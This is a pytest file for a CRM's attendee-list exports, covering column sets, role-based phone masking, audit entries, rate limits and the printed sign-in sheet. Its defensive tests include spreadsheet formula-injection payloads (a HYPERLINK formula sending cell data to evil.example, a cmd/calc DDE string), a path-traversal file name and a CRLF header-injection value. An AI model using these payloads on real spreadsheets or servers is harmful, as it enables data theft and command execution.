"""Attendee list exports (CSV, XLSX), column sets, masking, audit, formula injection, the sign-in sheet."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime, timezone
from urllib.parse import unquote

import openpyxl
import pytest
import sqlalchemy as sa

from crm.core.models import AuditEntry
from crm.events.models import ExportColumnSet, RegistrationStatus
from crm.extensions import db
from tests import factories
from tests import factories_events as fe
from tests.conftest import login


def parse_csv(resp) -> list[list[str]]:
    assert resp.data[:3] == b"\xef\xbb\xbf"
    return list(csv.reader(io.StringIO(resp.data[3:].decode("utf-8"), newline="")))


def parse_xlsx(resp) -> list[list]:
    wb = openpyxl.load_workbook(io.BytesIO(resp.data))
    ws = wb.worksheets[0]
    return [list(row) for row in ws.iter_rows(values_only=True)]


def _filename(resp) -> str:
    cd = resp.headers["Content-Disposition"]
    assert cd.startswith("attachment;")
    return unquote(cd.split("filename*=UTF-8''", 1)[1])


@pytest.fixture
def attendees(world):
    """Bank A's event with 5 people in every state, and bank B's event with one person."""
    e = fe.event([world.branch_a], world.campaign, title="人工智能专场", held_on=date(2026, 6, 18))
    f1 = factories.firm("甲科技有限公司")
    f2 = factories.firm("乙科技有限公司")
    regs = {
        "came": fe.registration(e, f1, name="到场甲", mob="13800000001", checked_in=True, person_title="总经理"),
        "came2": fe.registration(e, f2, name="到场乙", mob="13800000002", checked_in=True,
                                 status=RegistrationStatus.CONFIRMED),
        "absent": fe.registration(e, f2, name="缺席丙", mob="13800000003"),
        "cancelled": fe.registration(e, f1, name="取消丁", mob="13800000004", status=RegistrationStatus.CANCELLED),
        "walkin": fe.registration(e, f1, name="现场戊", mob="13800000005", checked_in=True,
                                  source=fe.RegistrationSource.WALK_IN, status=RegistrationStatus.CONFIRMED),
    }
    other = fe.event([world.bank_b], world.campaign, title="工行专场")
    fb = factories.firm("丙银行客户公司")
    fe.registration(other, fb, name="工行客户", mob="13900000009", checked_in=True)
    db.session.commit()
    return e, other, regs


def test_csv_has_exactly_the_chosen_columns_and_filtered_rows(world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    resp = client.get(f"/events/{e.id}/export.csv", query_string={
        "columns": ["firm_name", "person_name", "mobile", "checked_in_at"], "attendance": "attended"})
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = parse_csv(resp)
    assert rows[0] == ["单位名称", "姓名", "联系电话", "签到时间"]
    assert sorted(r[1] for r in rows[1:]) == ["到场乙", "到场甲", "现场戊"]
    assert {r[2] for r in rows[1:]} == {"13800000001", "13800000002", "13800000005"}
    assert all(r[3].startswith("2026-06-18 10:00") for r in rows[1:])  # UTC 02:00 shown in China time
    assert resp.headers["Cache-Control"] == "no-store" and resp.headers["X-Content-Type-Options"] == "nosniff"
    assert _filename(resp) == "人工智能专场_参会名单（已签到）_2026-06-18.csv"


@pytest.mark.parametrize("query,expected", [
    ({"attendance": "absent"}, {"缺席丙", "取消丁"}),
    ({"attendance": "absent", "status": ["registered", "confirmed"]}, {"缺席丙"}),
    ({"status": ["cancelled"]}, {"取消丁"}),
    ({"status": ["confirmed"], "attendance": "attended"}, {"到场乙", "现场戊"}),
    ({}, {"到场甲", "到场乙", "缺席丙", "取消丁", "现场戊"}),
])
def test_filters_by_status_and_attendance(world, login_as, client, attendees, query, expected):
    e, _, _ = attendees
    login_as("rm_a")
    rows = parse_csv(client.get(f"/events/{e.id}/export.csv", query_string={"columns": ["person_name"], **query}))
    assert rows[0] == ["姓名"] and {r[0] for r in rows[1:]} == expected and len(rows) - 1 == len(expected)


def test_xlsx_matches_columns_and_has_real_date_cells(world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    resp = client.get(f"/events/{e.id}/export.xlsx", query_string={
        "columns": ["seq", "event_date", "firm_name", "person_name", "person_title", "checked_in_at", "status"],
        "attendance": "attended"})
    assert resp.status_code == 200
    assert _filename(resp) == "人工智能专场_参会名单（已签到）_2026-06-18.xlsx"
    rows = parse_xlsx(resp)
    assert rows[0] == ["序号", "活动日期", "单位名称", "姓名", "职务", "签到时间", "报名状态"]
    assert [r[0] for r in rows[1:]] == [1, 2, 3]
    assert all(isinstance(r[1], datetime) and r[1].date() == date(2026, 6, 18) for r in rows[1:])
    assert all(isinstance(r[5], datetime) and r[5] == datetime(2026, 6, 18, 10, 0) for r in rows[1:])
    assert {r[3] for r in rows[1:]} == {"到场甲", "到场乙", "现场戊"}
    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0]
    assert ws["B2"].number_format == "yyyy-mm-dd" and ws["B2"].is_date


def test_csv_times_are_the_xlsx_times_as_text(world, login_as, client):
    """The CSV's times come formatted from the database, the XLSX's as datetimes moved in Python: the same local
    times, seconds truncated in both (none shows a second the other does not), across midnight, and empty when
    unset."""
    e = fe.event([world.bank_a], world.campaign, title="时间核对")
    utc = timezone.utc
    times = [
        (datetime(2026, 6, 18, 16, 59, 59, 987654, tzinfo=utc), datetime(2026, 6, 18, 17, 0, 0, tzinfo=utc)),
        (datetime(2026, 6, 17, 23, 0, 5, tzinfo=utc), None),
        (datetime(2026, 12, 31, 15, 30, 0, 500000, tzinfo=utc), datetime(2026, 12, 31, 16, 0, 1, tzinfo=utc)),
        # truncated, not rounded (SQLite before 3.42 rounds a time's fraction to milliseconds)
        (datetime(2026, 6, 18, 16, 59, 59, 999700, tzinfo=utc), None),
    ]
    for i, (created, checked) in enumerate(times):
        r = fe.registration(e, name=f"时间{i}", mob=f"1380000010{i}", checked_in=checked is not None)
        r.created_at, r.checked_in_at = created, checked
    db.session.commit()
    login_as("rm_a")
    q = {"columns": ["person_name", "registered_at", "checked_in_at"]}
    csv_rows = parse_csv(client.get(f"/events/{e.id}/export.csv", query_string=q))[1:]
    xlsx_rows = parse_xlsx(client.get(f"/events/{e.id}/export.xlsx", query_string=q))[1:]
    assert {r[0]: r[1:] for r in csv_rows} == {
        "时间0": ["2026-06-19 00:59:59", "2026-06-19 01:00:00"],
        "时间1": ["2026-06-18 07:00:05", ""],
        "时间2": ["2026-12-31 23:30:00", "2027-01-01 00:00:01"],
        "时间3": ["2026-06-19 00:59:59", ""],
    }
    as_text = {r[0]: [v.strftime("%Y-%m-%d %H:%M:%S") if v else "" for v in r[1:]] for r in xlsx_rows}
    assert as_text == {r[0]: r[1:] for r in csv_rows}


def test_organisers_and_admin_get_full_mobiles_others_masked(app, world, attendees):
    e, _, _ = attendees
    seen = {}
    for user in ("rm_a", "mgr_a", "admin", "bureau"):
        c = app.test_client()
        login(c, user)
        rows = parse_csv(c.get(f"/events/{e.id}/export.csv", query_string={"columns": ["mobile"]}))
        seen[user] = {r[0] for r in rows[1:]}
    full = {"13800000001", "13800000002", "13800000003", "13800000004", "13800000005"}
    assert seen["rm_a"] == seen["mgr_a"] == seen["admin"] == full
    assert seen["bureau"] == {"138****0001", "138****0002", "138****0003", "138****0004", "138****0005"}


def test_bureau_co_organiser_sees_full_mobiles(world, login_as, client):
    e = fe.event([world.bank_a, world.bureau], world.campaign)
    fe.registration(e, mob="13700001111")
    db.session.commit()
    login_as("bureau")
    rows = parse_csv(client.get(f"/events/{e.id}/export.csv", query_string={"columns": ["mobile"]}))
    assert rows[1] == ["13700001111"]


def test_bank_b_organisers_export_contains_nothing_of_bank_a(world, login_as, client, attendees):
    e, other, _ = attendees
    login_as("rm_b")
    all_cols = ["seq", "event_code", "event_date", "firm_name", "credit_code", "industry", "person_name",
                "person_title", "mobile", "need_summary", "preferred_bank", "source", "status", "registered_at",
                "checked_in_at", "checkin_method", "absence_reason", "remarks"]
    for fmt in ("csv", "xlsx"):
        resp = client.get(f"/events/{other.id}/export.{fmt}", query_string={"columns": all_cols})
        assert resp.status_code == 200
        text = resp.data.decode("utf-8", "ignore") if fmt == "csv" else json.dumps(parse_xlsx(resp), default=str,
                                                                                     ensure_ascii=False)
        assert "工行客户" in text
        for leak in ("人工智能专场", "甲科技", "乙科技", "到场甲", "缺席丙", "1380000000", e.code):
            assert leak not in text
        assert client.get(f"/events/{e.id}/export.{fmt}").status_code == 404


def test_every_export_is_audited_with_its_row_count(world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    client.get(f"/events/{e.id}/export.xlsx", query_string={"columns": ["person_name"], "attendance": "attended"})
    client.get(f"/events/{e.id}/export.csv", query_string={"columns": ["person_name", "mobile"]})
    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export")
                                 .order_by(AuditEntry.id)).all()
    assert len(entries) == 2
    first, second = (json.loads(x.detail) for x in entries)
    assert (first["format"], first["rows"], first["filter"]["attendance"]) == ("xlsx", 3, "attended")
    assert (second["format"], second["rows"], second["full_mobiles"]) == ("csv", 5, True)
    assert all(x.user_id == world.rm_a.id and x.bank_id == world.bank_a.id and x.object_id == e.id for x in entries)


PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\0=1", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
            "=cmd|' /C calc'!A0", 'say "hi"', "a,b", "line1\nline2"]
FORMULAS = PAYLOADS[:9]
#: what can be stored: every form refuses control characters (tests/test_forms_base.py) and PostgreSQL cannot hold a
#: NUL, so "\0=1" never reaches an export from the database; crm/core/spreadsheets.py still neutralises it
#: (tests/test_spreadsheets.py covers all 11 EX-1 payloads)
STORABLE = [p for p in PAYLOADS if "\0" not in p]


def test_formula_payloads_in_names_and_titles_are_neutralised_in_both_formats(world, login_as, client):
    e = fe.event([world.bank_a], world.campaign, title="=1+1 活动")
    firm = factories.firm('=HYPERLINK("http://evil.example")')
    for i, p in enumerate(STORABLE):
        fe.registration(e, firm, name=p, person_title=p, mob=f"1370000{i:04d}")
    db.session.commit()
    login_as("rm_a")
    q = {"columns": ["seq", "firm_name", "person_name", "person_title"]}
    rows = parse_csv(client.get(f"/events/{e.id}/export.csv", query_string=q))[1:]
    by_seq = sorted(rows, key=lambda r: int(r[0]))
    cells = {r[2] for r in by_seq} | {r[3] for r in by_seq}
    for p in FORMULAS:
        if p in STORABLE:
            assert "'" + p in cells, p
    for p in PAYLOADS[9:]:
        assert p in cells, p  # RFC 4180 quoting round-trips exactly
    assert all(r[1] == '\'=HYPERLINK("http://evil.example")' for r in rows)

    resp = client.get(f"/events/{e.id}/export.xlsx", query_string=q)
    with zipfile.ZipFile(io.BytesIO(resp.data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)
    xrows = parse_xlsx(resp)[1:]
    for row in xrows:
        for value in row[1:]:
            if isinstance(value, str) and value.lstrip("'").lstrip("\t\r").startswith(("=", "+", "-", "@")):
                assert value.startswith("'"), value
    names = {r[2] for r in xrows}
    # XML turns a bare carriage return into a line feed when read back, so "\r=1" comes back as "'\n=1"
    assert {"'=1+1", "'+1+1", "'-1+1", "'@SUM(1)", "'\t=1", "'\n=1"} <= names
    assert 'say "hi"' in names and "a,b" in names and "line1\nline2" in names


def test_column_sets_are_saved_per_user_and_drive_the_export(app, world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    resp = client.post(f"/events/{e.id}/export", data={"action": "save", "name": "给科创局的名单",
                                                       "columns": ["firm_name", "person_name", "person_title"]})
    assert resp.status_code == 302
    cs = db.session.scalar(sa.select(ExportColumnSet))
    assert cs.name == "给科创局的名单" and json.loads(cs.columns) == ["firm_name", "person_name", "person_title"]
    # saving under the same name replaces the columns
    client.post(f"/events/{e.id}/export", data={"action": "save", "name": "给科创局的名单",
                                                "columns": ["person_name", "firm_name"]})
    assert db.session.scalar(sa.select(sa.func.count(ExportColumnSet.id))) == 1
    rows = parse_csv(client.get(f"/events/{e.id}/export.csv", query_string={"set": cs.id}))
    assert rows[0] == ["姓名", "单位名称"]
    page = client.get(f"/events/{e.id}/export", query_string={"set": cs.id}).get_data(as_text=True)
    assert "给科创局的名单" in page
    # another user neither sees nor uses it
    other = app.test_client()
    login(other, "rm_a2")
    assert "给科创局的名单" not in other.get(f"/events/{e.id}/export").get_data(as_text=True)
    rows = parse_csv(other.get(f"/events/{e.id}/export.csv", query_string={"set": cs.id}))
    assert rows[0] == ["序号", "单位名称", "姓名", "职务", "联系电话", "报名状态", "签到时间"]
    assert other.post(f"/events/column-sets/{cs.id}/delete").status_code == 404
    assert client.post(f"/events/column-sets/{cs.id}/delete", data={"event_id": e.id}).status_code == 302
    assert db.session.scalar(sa.select(sa.func.count(ExportColumnSet.id))) == 0


def test_the_export_page_redirects_its_buttons_to_the_download(world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    resp = client.post(f"/events/{e.id}/export", data={"action": "xlsx", "columns": ["person_name"],
                                                       "attendance": "attended", "status": ["confirmed"]})
    assert resp.status_code == 303
    rows = parse_xlsx(client.get(resp.headers["Location"]))
    assert rows[0] == ["姓名"] and sorted(rows[1:]) == [["到场乙"], ["现场戊"]]


@pytest.mark.parametrize("app_overrides", [{"RATELIMIT_ENABLED": True, "EVENTS_EXPORT_RATE_LIMIT": "3/hour"}])
def test_exports_are_rate_limited_per_user(world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    statuses = [client.get(f"/events/{e.id}/export.csv").status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]


def test_sign_in_sheet_lists_registered_people_with_print_headers(app, world, login_as, client, attendees):
    e, _, _ = attendees
    login_as("rm_a")
    resp = client.get(f"/events/{e.id}/sign-in-sheet")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200
    for header in ("序号", "单位名称", "姓名", "职务", "联系电话", "签到"):
        assert f">{header}</th>" in html
    assert "<thead>" in html and "css/print.css" in html
    assert "人工智能专场 签到表" in html
    assert "到场甲" in html and "缺席丙" in html and "取消丁" not in html
    assert "13800000001" in html
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export"))
    assert json.loads(entry.detail)["kind"] == "sign_in_sheet" and json.loads(entry.detail)["rows"] == 4
    bureau = app.test_client()
    login(bureau, "bureau")
    masked = bureau.get(f"/events/{e.id}/sign-in-sheet").get_data(as_text=True)
    assert "138****0001" in masked and "13800000001" not in masked


def test_print_css_repeats_table_headers_and_numbers_pages(app):
    from pathlib import Path

    css = Path(app.static_folder, "css", "print.css").read_text(encoding="utf-8")
    assert "thead { display: table-header-group; }" in css
    assert "size: A4" in css and "counter(page)" in css


@pytest.mark.parametrize("title", ["../../etc/passwd", "a\r\nSet-Cookie: x=1", "报名表（2025）", "长" * 300])
def test_export_file_names_are_safe(world, login_as, client, title):
    e = fe.event([world.bank_a], world.campaign, title=title[:200])
    db.session.commit()
    login_as("rm_a")
    resp = client.get(f"/events/{e.id}/export.csv")
    cd = resp.headers["Content-Disposition"]
    assert "\r" not in cd and "\n" not in cd and "/" not in unquote(cd.split("filename*=UTF-8''")[1])
    assert cd.isascii()
